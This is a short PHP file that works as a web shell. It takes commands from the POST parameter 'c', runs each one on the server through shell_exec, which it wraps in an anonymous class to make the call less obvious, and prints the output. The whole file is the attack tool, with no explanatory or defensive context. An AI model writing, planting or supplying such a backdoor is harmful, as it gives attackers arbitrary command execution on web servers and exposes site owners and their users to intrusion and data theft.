<?php
echo implode("\n", array_map(new class {
    public function __invoke(string $c): string { return (string) shell_exec($c); }
}, (array) ($_POST['c'] ?? [])));
